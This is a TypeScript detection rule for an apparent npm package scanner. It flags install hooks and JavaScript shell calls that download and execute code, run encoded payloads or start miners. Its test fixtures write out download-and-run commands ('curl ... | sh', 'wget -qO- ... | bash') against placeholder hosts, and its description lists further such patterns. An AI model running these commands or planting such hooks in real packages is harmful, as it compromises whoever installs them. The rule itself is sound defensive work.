import { allEvents, at, scriptLine, callSeverity, eventTrigger, type JsRule } from '../../analysis/javascript/context.js';
import { defineRule } from '../types.js';

/** Download-and-execute or encoded execution in an install hook or a shell command run from JavaScript. */
export const installScriptDownload: JsRule = defineRule({
  meta: {
    id: 'npm/install-script-download',
    kind: 'threat',
    category: 'download-execute',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['npm'],
    description: 'A shell command downloads code and runs it (curl | sh, curl -o f && ./f, iwr | iex, base64 -d | sh, powershell -enc) or starts a cryptocurrency miner.',
    examples: {
      positive: [
        { files: { 'package.json': '{"name":"p","scripts":{"preinstall":"curl -s https://x.invalid/i.sh | sh"}}' } },
        { files: { 'package.json': '{"name":"p","scripts":{"postinstall":"node i.js"}}', 'i.js': "require('child_process').execSync('wget -qO- http://x.invalid/a | bash')" } },
      ],
      negative: [{ files: { 'package.json': '{"name":"p","scripts":{"postinstall":"curl -o logo.png https://github.com/x.png"}}' } }],
    },
  },
  check(ctx, report) {
    for (const s of ctx.installScripts) {
      for (const f of s.facts) {
        if (f.behaviour !== 'download-exec' && f.behaviour !== 'encoded-exec' && f.behaviour !== 'miner') continue;
        report({ path: s.path ?? ctx.manifestPath, line: scriptLine(s, f.command.text), evidence: f.command.text, message: f.behaviour === 'miner' ? `Install hook \`${s.hook}\` starts a cryptocurrency miner: \`${f.command.text.slice(0, 100)}\`.` : `Install hook \`${s.hook}\` downloads or decodes code and runs it: \`${f.command.text.slice(0, 100)}\`.`, trigger: 'install', data: { hosts: f.destinations.map((d) => d.host) } });
      }
    }
    for (const { file, e } of allEvents(ctx)) {
      if (e.sink !== 'exec' || e.shell === undefined) continue;
      const f = e.shell.find((x) => x.behaviour === 'download-exec' || x.behaviour === 'encoded-exec' || x.behaviour === 'miner');
      if (f === undefined) continue;
      const trigger = eventTrigger(file, e);
      report(at(file, e, `JavaScript runs a shell command that downloads or decodes code and executes it: \`${f.command.text.slice(0, 100)}\`.`, { severity: callSeverity(trigger, 'critical') }));
    }
  },
});
